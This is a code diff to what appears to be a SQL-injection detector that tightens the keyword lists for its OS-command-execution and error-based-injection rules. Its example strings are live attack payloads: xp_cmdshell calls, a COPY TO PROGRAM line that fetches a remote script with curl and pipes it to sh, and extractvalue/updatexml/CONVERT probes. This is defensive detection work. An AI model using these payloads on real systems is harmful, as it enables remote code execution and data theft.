@@ -545,7 +545,8 @@ const queryAnalyzer: Analyzer<QueryContext> = {
       name: 'Operating-system command execution from SQL',
       primitive: 'ESCALATION',
       score: 9,
-      keywords: ['xp_', 'sp_oa', 'sys_exec', 'sys_eval', 'program', 'lo_export', 'dbms_java', 'language', 'load_extension', 'dbms_scheduler', 'sp_execute_external'],
+      // every keyword is a piece of OS_EXEC itself ('to program', not 'program': prose says "the program")
+      keywords: ['xp_', 'sp_oa', 'sys_exec', 'sys_eval', 'to program', 'from program', 'lo_export', 'dbms_java', 'language plp', 'language c', 'load_extension', 'dbms_scheduler', 'sp_execute_external'],
       pattern: OS_EXEC,
       examples: {
         flag: ["EXEC xp_cmdshell 'whoami'", "COPY (SELECT '') TO PROGRAM 'curl http://x.sh | sh'", "'; exec master..xp_cmdshell 'net user'--"],
@@ -732,7 +733,8 @@ const queryAnalyzer: Analyzer<QueryContext> = {
       name: 'Error-based SQL injection probe',
       primitive: 'EXFILTRATION',
       score: 8,
-      keywords: ['extractvalue', 'updatexml', 'convert', 'cast', 'floor', 'exp', 'geometrycollection', 'drithsx', 'utl_inaddr'],
+      // every keyword is a piece of ERROR_BASED itself (the skeleton spaces every token: 'exp (' not "expense")
+      keywords: ['extractvalue', 'updatexml', 'convert (', 'floor (', 'exp (', 'geometrycollection', 'drithsx', 'utl_inaddr'],
       pattern: ERROR_BASED,
       examples: {
         flag: ["' AND extractvalue(1, concat(0x7e, (SELECT user())))-- ", "1 AND updatexml(1,concat(0x7e,version()),1)", "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--"],
